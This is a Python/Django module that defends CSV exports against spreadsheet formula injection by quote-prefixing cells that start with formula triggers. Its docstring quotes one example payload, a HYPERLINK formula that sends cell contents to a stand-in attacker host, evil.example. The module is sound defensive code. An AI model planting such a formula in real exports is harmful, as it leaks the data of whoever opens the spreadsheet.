"""CSV exports that a spreadsheet opens as data, never as formulas.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is taken for a formula by Excel, LibreOffice and
Google Sheets: an integration named ``=HYPERLINK("https://evil.example/?"&A1,"open")`` would run
in the reviewer's spreadsheet. Following the OWASP guidance on CSV injection, such a cell is
prefixed with a single quote, which spreadsheets show as text. Every CSV export writes its rows
through ``CsvRowWriter`` so that no export can forget it.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

from django.http import StreamingHttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet must read it: text that would start a formula gets a leading
    single quote. Numbers, booleans and None are left alone (a negative number is data)."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class _Echo:
    """A file-like object whose ``write`` returns what it was given, so rows can be streamed."""

    def write(self, value: str) -> str:
        return value


class CsvRowWriter:
    """Formats one row at a time as a CSV line (for ``StreamingHttpResponse``), every cell
    neutralised: ``yield writer.writerow([...])``."""

    def __init__(self) -> None:
        self._writer = csv.writer(_Echo())

    def writerow(self, row: Iterable[Any]) -> str:
        line: str = self._writer.writerow([neutralise(cell) for cell in row])
        return line


def csv_response(filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> StreamingHttpResponse:
    """A CSV download streamed row by row (``rows`` should itself stream, e.g. from
    ``QuerySet.iterator``), so a 100,000-row export never sits in memory; every cell neutralised."""
    writer = CsvRowWriter()

    def lines() -> Iterator[str]:
        yield writer.writerow(header)
        for row in rows:
            yield writer.writerow(row)

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
